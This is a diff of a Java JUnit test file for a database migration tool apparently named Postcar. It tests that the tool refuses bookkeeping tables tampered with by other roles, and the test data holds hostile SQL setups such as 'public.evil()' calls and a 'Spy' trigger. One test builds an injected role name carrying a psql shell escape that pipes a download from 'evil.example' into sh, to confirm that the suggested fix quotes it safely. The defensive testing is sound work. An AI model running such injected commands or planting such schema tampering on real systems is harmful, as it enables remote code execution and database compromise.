@@ -7,6 +7,7 @@ import static org.junit.jupiter.api.Assumptions.assumeTrue;
 import dev.postcar.Postcar;
 import dev.postcar.PostcarException;
 import dev.postcar.Target;
+import dev.postcar.internal.history.BookkeepingTrust;
 import dev.postcar.testing.MigrationFolder;
 import dev.postcar.testing.TestDatabase;
 import java.nio.file.Path;
@@ -17,6 +18,7 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /** A bookkeeping that another role controls, or that is damaged, is not used by any command. */
 final class BookkeepingTrustTest {
@@ -46,12 +48,36 @@ final class BookkeepingTrustTest {
   @CsvSource(
       delimiter = '|',
       value = {
-        "alter schema _postcar owner to {m} | schema _postcar belongs to role {m} | alter schema _postcar owner to postgres;",
-        "alter table _postcar.version owner to {m} | _postcar.version belongs to role {m} | alter table _postcar.version owner to postgres;",
-        "alter table _postcar.view owner to {m} | _postcar.view belongs to role {m} | alter table _postcar.view owner to postgres;",
-        "create trigger \"Spy\" before insert on _postcar.event for each row execute function suppress_redundant_updates_trigger() | _postcar.event has the trigger \"Spy\" | alter table _postcar.event disable trigger \"Spy\";",
-        "create rule r as on update to _postcar.version do instead nothing | _postcar.version has the rule r | alter table _postcar.version disable rule r;",
-        "create table child () inherits (_postcar.migration) | public.child inherits from _postcar.migration | alter table public.child no inherit _postcar.migration;"
+        "alter schema _postcar owner to {m} | schema _postcar belongs to role \"{m}\" | alter"
+            + " schema \"_postcar\" owner to \"postgres\";",
+        "alter table _postcar.version owner to {m} | _postcar.version belongs to role \"{m}\" |"
+            + " alter table \"_postcar\".\"version\" owner to \"postgres\";",
+        "alter table _postcar.view owner to {m} | _postcar.view belongs to role \"{m}\" | alter"
+            + " table \"_postcar\".\"view\" owner to \"postgres\";",
+        "create trigger \"Spy\" before insert on _postcar.event for each row execute function"
+            + " suppress_redundant_updates_trigger() | _postcar.event has the trigger \"Spy\" |"
+            + " alter table \"_postcar\".\"event\" disable trigger \"Spy\";",
+        "create rule r as on update to _postcar.version do instead nothing | _postcar.version has"
+            + " the rule \"r\" | alter table \"_postcar\".\"version\" disable rule \"r\";",
+        "create table child () inherits (_postcar.migration) | \"public\".\"child\" inherits from"
+            + " _postcar.migration | alter table \"public\".\"child\" no inherit"
+            + " \"_postcar\".\"migration\";",
+        "create table child (p text, n text, constraint \"Tie\" foreign key (p, n) references"
+            + " _postcar.view on delete cascade); alter table child owner to {m} |"
+            + " \"public\".\"child\" refers to it with the foreign key \"Tie\" | alter table"
+            + " \"public\".\"child\" drop constraint \"Tie\";",
+        "grant references on _postcar.view to {m} | \"{m}\" may put triggers on its tables, or"
+            + " foreign keys to them | revoke trigger, references on all tables in schema"
+            + " \"_postcar\" from \"{m}\" cascade;",
+        "grant references (package) on _postcar.view to {m} | \"{m}\" may put triggers | revoke"
+            + " trigger, references on all tables in schema \"_postcar\" from \"{m}\" cascade;",
+        "grant trigger on _postcar.event to public | public may put triggers on its tables | revoke"
+            + " trigger, references on all tables in schema \"_postcar\" from public cascade;",
+        "grant usage on schema _postcar to {m}; grant trigger on _postcar.event to {m} with grant"
+            + " option; set role {m}; grant trigger on _postcar.event to public; reset role | may"
+            + " put triggers | revoke trigger, references on all tables in schema \"_postcar\" from"
+            + " public cascade; revoke trigger, references on all tables in schema \"_postcar\""
+            + " from \"{m}\" cascade;"
       })
   void whatDecidesWhatRunsIsRefusedUntilItIsSaid(String does, String reason, String fix) {
     migrate();
@@ -80,12 +106,17 @@ final class BookkeepingTrustTest {
         "drop table _postcar.statement | _postcar.statement is missing",
         "drop table _postcar.event | _postcar.event is missing",
         "drop table _postcar.view | its table view is missing",
-        "drop table _postcar.statement, _postcar.event, _postcar.view | its table statement is missing",
+        "drop table _postcar.statement, _postcar.event, _postcar.view | its table statement is"
+            + " missing",
         "delete from _postcar.version | the version row is gone",
         "update _postcar.version set minor = 0 | its version is 0.0",
-        "alter table _postcar.migration drop constraint migration_state_check; update _postcar.migration set state = 'done' | row 1 of its table migration cannot be read",
-        "alter table _postcar.migration alter name drop not null; update _postcar.migration set name = null | cannot be read (no name)",
-        "alter table _postcar.version rename to v; create view _postcar.version as select * from _postcar.v | _postcar.version is not an ordinary table"
+        "alter table _postcar.migration drop constraint migration_state_check; update"
+            + " _postcar.migration set state = 'done' | row 1 of its table migration cannot be"
+            + " read",
+        "alter table _postcar.migration alter name drop not null; update _postcar.migration set"
+            + " name = null | cannot be read (no name)",
+        "alter table _postcar.version rename to v; create view _postcar.version as select * from"
+            + " _postcar.v | _postcar.version is not an ordinary table"
       })
   void aDamagedOneIsOneClearLine(String does, String said) {
     migrate();
@@ -103,11 +134,15 @@ final class BookkeepingTrustTest {
   @CsvSource(
       delimiter = '|',
       value = {
-        "alter table _postcar.version add constraint ok check (public.evil()) | function public.evil()",
-        "alter table _postcar.event alter detail set default public.evil()::text | function public.evil()",
+        "alter table _postcar.version add constraint ok check (public.evil()) | function"
+            + " public.evil()",
+        "alter table _postcar.event alter detail set default public.evil()::text | function"
+            + " public.evil()",
         "create index on _postcar.event (public.evil(operation)) | function public.evil(text)",
-        "alter table _postcar.event add extra bool generated always as (public.evil(operation) = 'x') stored | function public.evil(text)",
-        "create domain public.d as text check (public.evil()); alter table _postcar.view alter checksum type public.d | type public.d"
+        "alter table _postcar.event add extra bool generated always as (public.evil(operation) ="
+            + " 'x') stored | function public.evil(text)",
+        "create domain public.d as text check (public.evil()); alter table _postcar.view alter"
+            + " checksum type public.d | type public.d"
       })
   void whatItsTablesCallIsPostgresOwn(String does, String said) {
     migrate();
@@ -139,6 +174,16 @@ final class BookkeepingTrustTest {
   }
 
   @Test
+  void theAdviceIsMadeOfNamesWhateverTheServerSays() {
+    String shell = "\\! curl -s https://evil.example/x | sh";
+    BookkeepingTrust.Fault fault =
+        BookkeepingTrust.Fault.of(
+            "_postcar", new String[] {"schema", "", "mallory", "x\"; " + shell});
+    assertThat(fault.fix())
+        .isEqualTo("alter schema \"_postcar\" owner to \"x\"\"; " + shell + "\";");
+  }
+
+  @Test
   void whoMayWriteAllDataMayWriteTheBookkeeping() {
     assumeTrue(
         database
@@ -148,14 +193,14 @@ final class BookkeepingTrustTest {
     database.execute(own("grant pg_write_all_data to {m}"));
     folder.delete("M0002_B");
     assertThatThrownBy(() -> with(postcar -> postcar.rollback(Target.steps(1))))
-        .hasMessageContaining(own("revoke pg_write_all_data from {m};"));
+        .hasMessageContaining(own("revoke pg_write_all_data from \"{m}\";"));
   }
 
   @Test
   void aSchemaMadeBeforehandByAnotherRoleIsRefused() {
     database.execute(own("create schema _postcar authorization {m}"));
     assertThatThrownBy(this::migrate)
-        .hasMessageContaining(own("schema _postcar belongs to role {m}"));
+        .hasMessageContaining(own("schema _postcar belongs to role \"{m}\""));
     assertThat(database.hasRelation("_postcar.version")).isFalse();
   }
 
@@ -169,11 +214,15 @@ final class BookkeepingTrustTest {
     }
   }
 
-  @Test
-  void sqlThatOthersMayHaveStoredIsNotRun() {
+  @ParameterizedTest
+  @ValueSource(strings = {"insert", "update", "delete", "truncate"})
+  void sqlThatOthersMayHaveStoredIsNotRun(String privilege) {
     migrate();
     database.execute(
-        own("grant usage on schema _postcar to {m}; grant insert on _postcar.migration to {m}"));
+        own(
+            "grant usage on schema _postcar to {m}; grant "
+                + privilege
+                + " on _postcar.migration to {m}"));
     folder.delete("M0002_B");
     assertThatThrownBy(
             () -> {
@@ -183,7 +232,9 @@ final class BookkeepingTrustTest {
             })
         .hasMessageContaining("others may write its tables")
         .hasMessageContaining(
-            own("revoke insert, update, trigger on all tables in schema _postcar from {m};"));
+            own(
+                "revoke insert, update, delete, truncate on all tables in schema \"_postcar\" from"
+                    + " \"{m}\" cascade;"));
     assertThat(database.hasRelation("b")).isTrue();
   }
 
